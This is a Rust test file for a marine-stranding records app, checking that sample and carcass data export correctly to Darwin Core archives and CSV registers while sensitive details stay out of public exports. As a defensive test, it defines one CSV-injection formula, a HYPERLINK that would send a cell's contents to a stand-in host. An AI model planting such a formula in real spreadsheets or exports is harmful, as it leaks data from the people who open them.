//! Samples and carcasses in the exports, end to end: samples and carcass reports added
//! through the HTTP API, the Darwin Core Archive read back with python-dwca-reader 0.17.1
//! (terms checked against its TDWG term list and the extract beside the tests, whose
//! sample terms were read in dwcahandler 1.1.5's copy of the TDWG list), the sample
//! register read with Python's own csv module; a sensitive species' samples kept from the
//! public, and values a spreadsheet would run made safe.

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::{Value, json};

use crate::helpers::{TestApp, spawn_app, submission};
use crate::python::{run_script, terms_extract};

const DWC: &str = "http://rs.tdwg.org/dwc/terms/";
const CATSHARK: &str = "5a3e1e00-0000-4000-8000-000000000001";
const ANGELSHARK: &str = "5a3e1e00-0000-4000-8000-000000000002";
const UNKNOWN: &str = "5a3e1e00-0000-4000-8000-000000000003";
/// A holder whose name a spreadsheet would run as a formula (OWASP, CSV injection).
const FORMULA: &str = "=HYPERLINK(\"http://example.org/?leak=\"&A1,\"open\")";

async fn send(app: &TestApp, method: reqwest::Method, path: &str, body: &Value) -> (u16, Value) {
    let request = app.client.request(method, format!("{}{path}", app.base));
    let response = app.reviewer.sign(request).json(body).send().await.unwrap();
    (response.status().as_u16(), response.json().await.unwrap_or(Value::Null))
}

fn sample(code: &str, kind: &str, preservation: &str, stored_at: &str, held_by: &str) -> Value {
    json!({"kind": kind, "code": code, "preservation": preservation, "stored_at": stored_at, "held_by": held_by,
           "notes": "cut from the left pectoral fin"})
}

async fn add_sample(app: &TestApp, record: &str, body: Value) {
    let (status, answer) =
        send(app, reqwest::Method::POST, &format!("/api/review/records/{record}/samples"), &body).await;
    assert_eq!(status, 200, "{answer}");
}

async fn set_carcass(app: &TestApp, record: &str, body: Value) {
    let (status, answer) =
        send(app, reqwest::Method::PUT, &format!("/api/review/records/{record}/carcass"), &body).await;
    assert_eq!(status, 200, "{answer}");
}

/// A confirmed catshark (not sensitive) with two samples and an examined carcass; a
/// confirmed angelshark (sensitive in the demo checklist: 0.1°) and a record whose name
/// the checklist does not know, awaiting review, with a sample each.
async fn app_with_samples() -> TestApp {
    let app = spawn_app().await;
    assert_eq!(app.submit(&submission(CATSHARK), &[]).await.status, 200);
    let mut angel = submission(ANGELSHARK);
    angel["species_guess"] = json!("Angelshark");
    angel["position"] = json!({"latitude": 52.3467, "longitude": -4.1234, "accuracy_m": 10.0, "source": "device"});
    assert_eq!(app.submit(&angel, &[]).await.status, 200);
    let mut unknown = submission(UNKNOWN);
    unknown["species_guess"] = json!("some kind of skate");
    assert_eq!(app.submit(&unknown, &[]).await.status, 200);
    app.confirm(CATSHARK, "Scyliorhinus canicula", "species").await;
    app.confirm(ANGELSHARK, "Squatina squatina", "species").await;

    add_sample(
        &app,
        CATSHARK,
        sample("WRK-S-001", "tissue_for_genetics", "ethanol", "freezer 3, rack A", "Muséum Aberystwyth"),
    )
    .await;
    // A code starting with '-' that is not a number: a spreadsheet would read it as a formula.
    add_sample(&app, CATSHARK, sample("-V7", "vertebrae", "frozen", "shelf 2", FORMULA)).await;
    set_carcass(
        &app,
        CATSHARK,
        json!({"fate": "taken_for_study", "examined_at": "2025-06-03T10:00:00+01:00", "body_condition": "poor",
               "stomach": "some_food", "injuries": "hook in the jaw", "notes": "freezer door sticks"}),
    )
    .await;
    add_sample(&app, ANGELSHARK, sample("PORTH-CWM-1", "tissue_for_genetics", "ethanol", "freezer 1", "Dr Rhys Jones"))
        .await;
    set_carcass(
        &app,
        ANGELSHARK,
        json!({"fate": "buried", "examined_at": "2025-06-01T16:30:00+01:00", "body_condition": "good",
               "stomach": "empty", "injuries": "net marks below the lifeboat station", "notes": null}),
    )
    .await;
    add_sample(&app, UNKNOWN, sample("SKATE-BAY-1", "other", "dried", "box 9", "the network")).await;
    app
}

async fn download(app: &TestApp, query: &str, dir: &Path, name: &str) -> PathBuf {
    let response = app.get(&format!("/api/export?{query}")).await;
    assert_eq!(response.status(), 200, "{query}");
    let path = dir.join(name);
    std::fs::write(&path, response.bytes().await.unwrap()).unwrap();
    path
}

fn row<'a>(archive: &'a Value, id: &str) -> &'a Value {
    archive["rows"].as_array().unwrap().iter().find(|r| r["id"] == format!("urn:uuid:{id}")).expect("the record's row")
}

fn term<'a>(data: &'a Value, name: &str) -> &'a str {
    data[format!("{DWC}{name}")].as_str().unwrap_or_else(|| panic!("term {name} in {data}"))
}

/// The data of a row's extension rows of class `class`.
fn extension_rows<'a>(row: &'a Value, class: &str) -> Vec<&'a Value> {
    row["extensions"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["rowtype"] == format!("{DWC}{class}"))
        .map(|e| &e["data"])
        .collect()
}

fn measurement<'a>(row: &'a Value, kind: &str) -> Option<&'a Value> {
    extension_rows(row, "MeasurementOrFact").into_iter().find(|m| term(m, "measurementType") == kind)
}

#[tokio::test]
async fn samples_and_the_carcass_read_back_from_the_archive_in_darwin_core_terms() {
    let app = app_with_samples().await;
    let dir = tempfile::tempdir().unwrap();
    let zip = download(&app, "format=dwca&audience=full&state=any", dir.path(), "full.zip").await;
    let archive = run_script("read_dwca.py", &[&zip, &terms_extract()]);
    // Every term and row type in the TDWG list (python-dwca-reader's copy, or the extract
    // whose sample terms were read in dwcahandler 1.1.5's terms.csv and class-rowtype.csv).
    assert_eq!(archive["unknown_terms"], json!([]));
    assert_eq!(archive["unknown_row_types"], json!([]));
    assert!(
        archive["extension_row_types"].as_array().unwrap().contains(&json!(format!("{DWC}ResourceRelationship"))),
        "{}",
        archive["extension_row_types"]
    );
    assert_eq!(archive["orphaned_extension_rows"]["resourcerelationship.txt"], 0, "every row names its occurrence");

    let catshark = row(&archive, CATSHARK);
    // TDWG Darwin Core preparations: a list, " | " between (the term's recommended
    // separator and its example "whole animal (ETOH) | tissue (EDTA)", from memory).
    assert_eq!(term(&catshark["data"], "preparations"), "tissue for genetics (in ethanol) | vertebrae (frozen)");
    assert_eq!(term(&catshark["data"], "disposition"), "carcass taken for study");
    // One ResourceRelationship row per sample: the sample's id "sample of" the occurrence.
    let samples = extension_rows(catshark, "ResourceRelationship");
    let occurrence_id = format!("urn:uuid:{CATSHARK}");
    let ids: Vec<&str> = samples.iter().map(|s| term(s, "resourceID")).collect();
    assert_eq!(ids, ["WRK-S-001", "'-V7"], "ids as given; one a spreadsheet would run starts with '");
    for sample in &samples {
        assert_eq!(term(sample, "relationshipOfResource"), "sample of");
        assert_eq!(term(sample, "relatedResourceID"), occurrence_id);
        assert!(term(sample, "resourceRelationshipID").starts_with(&format!("{occurrence_id}#sample-")));
        assert_eq!(term(sample, "relationshipEstablishedDate").len(), 10, "a day (ISO 8601)");
    }
    let remarks = term(samples[0], "relationshipRemarks");
    assert_eq!(
        remarks,
        "tissue for genetics, in ethanol; stored at freezer 3, rack A; held by Muséum Aberystwyth; cut from the left pectoral fin"
    );
    // The necropsy as MeasurementOrFact rows beside the length, dated by the examination.
    let condition = measurement(catshark, "body condition").expect("body condition");
    assert_eq!(term(condition, "measurementValue"), "poor");
    assert_eq!(term(condition, "measurementDeterminedDate"), "2025-06-03T10:00:00+01:00");
    assert_eq!(term(measurement(catshark, "stomach fullness").unwrap(), "measurementValue"), "some food");
    assert_eq!(term(measurement(catshark, "injuries").unwrap(), "measurementValue"), "hook in the jaw");
    assert_eq!(term(measurement(catshark, "total length").unwrap(), "measurementValue"), "54.0");
    // Reviewers see the sensitive species' samples too.
    let angel = row(&archive, ANGELSHARK);
    assert_eq!(extension_rows(angel, "ResourceRelationship").len(), 1);
    assert_eq!(term(&angel["data"], "disposition"), "carcass buried");
    let notes = archive["metadata"]["abstract"].as_str().unwrap();
    assert!(notes.contains("4 samples named"), "{notes}");
}

#[tokio::test]
async fn the_public_archive_describes_every_sample_but_names_only_those_of_records_published_as_recorded() {
    let app = app_with_samples().await;
    let dir = tempfile::tempdir().unwrap();
    let zip = download(&app, "format=dwca&state=any", dir.path(), "public.zip").await;
    let archive = run_script("read_dwca.py", &[&zip, &terms_extract()]);
    let catshark = row(&archive, CATSHARK);
    let samples = extension_rows(catshark, "ResourceRelationship");
    assert_eq!(samples.len(), 2, "a confirmed record of a species that is not sensitive: its samples named");
    for sample in &samples {
        let remarks = term(sample, "relationshipRemarks");
        assert!(!remarks.contains("stored at") && !remarks.contains("held by"), "free text: {remarks}");
        assert!(!remarks.contains("pectoral"), "sample notes are free text: {remarks}");
    }
    assert_eq!(term(measurement(catshark, "injuries").unwrap(), "measurementValue"), "hook in the jaw");
    // Chapman 2020 (GBIF): a generalised record carries no free text; a sample's id is
    // free text (this one names a cove), so the sensitive angelshark's samples and those
    // of a record nobody has confirmed are only described, never named.
    for (id, preparations) in [(ANGELSHARK, "tissue for genetics (in ethanol)"), (UNKNOWN, "other (dried)")] {
        let record = row(&archive, id);
        assert!(!term(&record["data"], "dataGeneralizations").is_empty(), "{id} is generalised");
        assert_eq!(term(&record["data"], "preparations"), preparations, "{id}");
        assert_eq!(extension_rows(record, "ResourceRelationship").len(), 0, "{id}: no sample ids");
    }
    let angel = row(&archive, ANGELSHARK);
    assert_eq!(term(&angel["data"], "disposition"), "carcass buried");
    assert_eq!(term(measurement(angel, "body condition").unwrap(), "measurementValue"), "good");
    assert!(measurement(angel, "injuries").is_none(), "injuries are free text (this one names a place)");
    assert_eq!(term(measurement(angel, "body condition").unwrap(), "measurementDeterminedDate"), "");
    let files = archive_text(&zip);
    for secret in ["PORTH-CWM", "SKATE-BAY", "Rhys", "lifeboat", "freezer"] {
        assert!(!files.contains(secret), "{secret} is in the public archive");
    }
    let notes = archive["metadata"]["abstract"].as_str().unwrap();
    assert!(notes.contains("2 samples named") && notes.contains("2 more"), "{notes}");
}

/// Every data file of an archive, unzipped and joined (the zip itself is compressed).
fn archive_text(zip: &Path) -> String {
    let mut archive = zip::ZipArchive::new(std::fs::File::open(zip).unwrap()).unwrap();
    let mut all = String::new();
    for i in 0..archive.len() {
        let mut file = archive.by_index(i).unwrap();
        std::io::Read::read_to_string(&mut file, &mut all).unwrap();
    }
    all
}

/// The register as Python's csv module reads it: the header and each row by column.
fn register(path: &Path) -> (Vec<String>, Vec<Value>) {
    let table = run_script("read_csv.py", &[path]);
    let header = table["header"].as_array().unwrap().iter().map(|h| h.as_str().unwrap().to_owned()).collect();
    let rows = table["rows"].as_array().unwrap().clone();
    for row in &rows {
        assert!(row.get("null").is_none() && row.as_object().unwrap().values().all(Value::is_string), "{row}");
    }
    (header, rows)
}

fn register_row<'a>(rows: &'a [Value], code: &str) -> &'a Value {
    rows.iter().find(|r| r["materialSampleID"] == code).unwrap_or_else(|| panic!("{code} in {rows:?}"))
}

#[tokio::test]
async fn the_sample_register_lists_each_sample_with_its_animal_for_a_lab() {
    let app = app_with_samples().await;
    let dir = tempfile::tempdir().unwrap();
    let path = download(&app, "format=samples&audience=full&state=any", dir.path(), "register.csv").await;
    let (header, rows) = register(&path);
    assert_eq!(
        header[..8],
        [
            "materialSampleID",
            "sampleKind",
            "preservation",
            "storedAt",
            "heldBy",
            "sampleRemarks",
            "sampleAddedAt",
            "occurrenceID"
        ]
    );
    assert_eq!(rows.len(), 4, "one row per sample");
    let tissue = register_row(&rows, "WRK-S-001");
    assert_eq!(tissue["sampleKind"], "tissue for genetics");
    assert_eq!(tissue["preservation"], "in ethanol");
    assert_eq!(tissue["storedAt"], "freezer 3, rack A");
    assert_eq!(tissue["heldBy"], "Muséum Aberystwyth", "UTF-8, read strictly");
    assert_eq!(tissue["occurrenceID"], format!("urn:uuid:{CATSHARK}"));
    assert_eq!(tissue["scientificName"], "Scyliorhinus canicula", "the current identification");
    assert_eq!(tissue["eventDate"], "2025-06-01T14:10:00+01:00");
    assert_eq!(
        (tissue["decimalLatitude"].as_str(), tissue["decimalLongitude"].as_str()),
        (Some("52.415300"), Some("-4.082900"))
    );
    assert_eq!(tissue["disposition"], "carcass taken for study");
    assert_eq!(tissue["identificationVerificationStatus"], "confirmed");
    // OWASP CSV injection: a value a spreadsheet would run starts with '; a number stays one.
    let vertebrae = register_row(&rows, "'-V7");
    assert_eq!(vertebrae["heldBy"], format!("'{FORMULA}"));
    assert_eq!(vertebrae["decimalLongitude"], "-4.082900", "numbers stay numbers");
    // Reviewers get the sensitive species where it was.
    let angel = register_row(&rows, "PORTH-CWM-1");
    assert_eq!(
        (angel["decimalLatitude"].as_str(), angel["heldBy"].as_str()),
        (Some("52.346700"), Some("Dr Rhys Jones"))
    );
    assert_eq!(register_row(&rows, "SKATE-BAY-1")["scientificName"], "", "a name not on the checklist is not guessed");

    // A sample id a spreadsheet would run is refused at the door, naming the field.
    let (status, answer) = send(
        &app,
        reqwest::Method::POST,
        &format!("/api/review/records/{CATSHARK}/samples"),
        &sample(FORMULA, "other", "dried", "box", "lab"),
    )
    .await;
    assert_eq!((status, answer["field"].as_str()), (422, Some("code")), "{answer}");

    // `wrackline export --format samples --full` writes the same register.
    let out = dir.path().join("cli.csv");
    let output = Command::new(env!("CARGO_BIN_EXE_wrackline"))
        .arg("--data-dir")
        .arg(&app.data_dir)
        .args(["export", "--format", "samples", "--full", "--state", "any", "--out"])
        .arg(&out)
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    assert_eq!(register(&out), (header, rows), "the command line and the API agree");
}

#[tokio::test]
async fn the_public_register_withholds_samples_of_sensitive_and_unconfirmed_records() {
    let app = app_with_samples().await;
    let dir = tempfile::tempdir().unwrap();
    let path = download(&app, "format=samples&state=any", dir.path(), "public.csv").await;
    let (_, rows) = register(&path);
    let codes: Vec<&str> = rows.iter().map(|r| r["materialSampleID"].as_str().unwrap()).collect();
    assert_eq!(codes, ["WRK-S-001", "'-V7"], "only the confirmed catshark's samples");
    for row in &rows {
        assert_eq!((row["storedAt"].as_str(), row["heldBy"].as_str()), (Some(""), Some("")), "free text: {row}");
        assert_eq!(row["sampleRemarks"], "");
    }
    // Anyone may fetch the public register; the full one is for reviewers and admins.
    let anonymous = |query: &str| app.client.get(format!("{}/api/export?{query}", app.base)).send();
    let public = anonymous("format=samples&state=any").await.unwrap();
    assert_eq!(public.status(), 200);
    assert_eq!(public.headers()["content-type"], "text/csv; charset=utf-8");
    assert_eq!(public.text().await.unwrap(), std::fs::read_to_string(&path).unwrap());
    assert_eq!(anonymous("format=samples&audience=full&state=any").await.unwrap().status(), 403);
}

#[tokio::test]
async fn after_a_merge_the_animal_carries_the_samples_and_carcass_added_on_its_other_report() {
    let app = spawn_app().await;
    let (first, second) = ("5a3e1e00-0000-4000-8000-0000000000a1", "5a3e1e00-0000-4000-8000-0000000000a2");
    assert_eq!(app.submit(&submission(first), &[]).await.status, 200);
    let mut later = submission(second);
    later["observed_at"] = json!("2025-06-01T15:40:00+01:00");
    assert_eq!(app.submit(&later, &[]).await.status, 200);
    // All on the later report, which the merge folds into the earlier one.
    add_sample(&app, second, sample("M-1", "tissue_for_genetics", "ethanol", "freezer 1", "the lab")).await;
    add_sample(&app, second, sample("M-2", "stomach_contents", "formalin", "shelf 4", "the lab")).await;
    set_carcass(
        &app,
        second,
        json!({"fate": "buried", "examined_at": null, "body_condition": null, "stomach": null,
        "injuries": null, "notes": null}),
    )
    .await;
    let (status, answer) = send(
        &app,
        reqwest::Method::POST,
        &format!("/api/review/records/{first}/duplicates/{second}"),
        &json!({"same_animal": true}),
    )
    .await;
    assert_eq!(status, 200, "{answer}");

    let dir = tempfile::tempdir().unwrap();
    let zip = download(&app, "format=dwca&audience=full&state=any", dir.path(), "merged.zip").await;
    let archive = run_script("read_dwca.py", &[&zip, &terms_extract()]);
    assert_eq!(archive["rows"].as_array().unwrap().len(), 1, "one occurrence per animal");
    let animal = row(&archive, first);
    assert_eq!(
        term(&animal["data"], "preparations"),
        "tissue for genetics (in ethanol) | stomach contents (in formalin)"
    );
    assert_eq!(term(&animal["data"], "disposition"), "carcass buried", "the later report's carcass");
    let ids: Vec<&str> = extension_rows(animal, "ResourceRelationship").iter().map(|s| term(s, "resourceID")).collect();
    assert_eq!(ids, ["M-1", "M-2"]);
    let register_path = download(&app, "format=samples&audience=full&state=any", dir.path(), "merged.csv").await;
    let (_, rows) = register(&register_path);
    let occurrences: Vec<&str> = rows.iter().map(|r| r["occurrenceID"].as_str().unwrap()).collect();
    assert_eq!(
        occurrences,
        [format!("urn:uuid:{first}"), format!("urn:uuid:{first}")],
        "both under the animal's record"
    );
}
